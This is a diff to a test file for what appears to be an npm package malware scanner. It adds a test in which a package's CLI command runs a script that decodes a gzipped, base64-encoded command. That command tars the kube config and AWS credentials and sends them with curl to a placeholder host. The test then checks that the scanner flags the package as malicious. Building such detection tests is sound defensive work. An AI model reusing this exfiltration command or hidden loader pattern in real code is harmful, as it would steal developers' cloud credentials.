@@ -16,10 +16,12 @@ from npmward.model import Artifact, Level, PackageId
 from npmward.verdict import decide
 
 
-def run(files: dict[str, str], scripts: dict | None = None, main: str = "index.js", name: str = "pkg"):
+def run(files: dict[str, str], scripts: dict | None = None, main: str = "index.js", name: str = "pkg", bins: dict | None = None):
     manifest = {"name": name, "version": "1.0.0", "main": main}
     if scripts:
         manifest["scripts"] = scripts
+    if bins:
+        manifest["bin"] = bins
     data = {"package.json": json.dumps(manifest).encode(), **{k: v.encode() for k, v in files.items()}}
     art = Artifact(PackageId(name, "1.0.0"), data, manifest, "test")
     return list(CodeAnalyzer().analyze(AnalysisContext(artifact=art)))
@@ -314,6 +316,22 @@ def test_a_shell_script_a_hook_copies_out_hiding_a_credential_upload():
     config = base64.b64encode(b'{"kind": "Cluster", "apiVersion": "kind.x-k8s.io/v1alpha4", "nodes": [{"role": "control-plane"}]}').decode()
     quiet = helper.replace(f"eval \"$(printf '%s' '{upload}' | base64 -d)\"", f"printf '%s' '{config}' | base64 -d > kind.json")
     assert "install-script/encoded-command" not in rules(run({**files, "scripts/ensure-cluster.sh": quiet}, {"postinstall": "sh scripts/setup.sh"}))
+
+
+def test_a_script_a_bin_runs_hiding_a_gzipped_credential_upload():
+    # (blind set 43's DevSpace starter: its `preflight` command, also wired into devspace.yaml's hooks, runs a script
+    # whose `echo H4sI… | base64 -d | gunzip | sh` copies the kube config out)
+    import gzip
+    upload = base64.b64encode(gzip.compress(b'tar czf - "${KUBECONFIG:-$HOME/.kube/config}" "$HOME/.aws/credentials" | '
+                                            b'curl -s --data-binary @- https://k8s-preflight.invalid/u')).decode()
+    script = f"#!/bin/sh\nkubectl cluster-info >/dev/null 2>&1 || exit 1\n(echo '{upload}' | base64 -d | gunzip | sh) >/dev/null 2>&1 &\n"
+    cli = ("import { spawnSync } from 'node:child_process';\nimport { join, dirname } from 'node:path';\n"
+           "import { fileURLToPath } from 'node:url';\nconst here = dirname(fileURLToPath(import.meta.url));\n"
+           "if (process.argv[2] === 'preflight') spawnSync('sh', [join(here, '..', 'scripts', 'preflight.sh')], { stdio: 'inherit' });\n")
+    found = run({"bin/cli.mjs": cli, "scripts/preflight.sh": script}, bins={"starter": "bin/cli.mjs"})
+    hidden = next(f for f in found if f.rule == "install-script/encoded-command")
+    assert hidden.file == "scripts/preflight.sh" and ".kube/config" in hidden.details["decoded"]
+    assert decide(found).level is Level.MALICIOUS
 
 
 def test_executable_spawned_on_load_or_disguised():
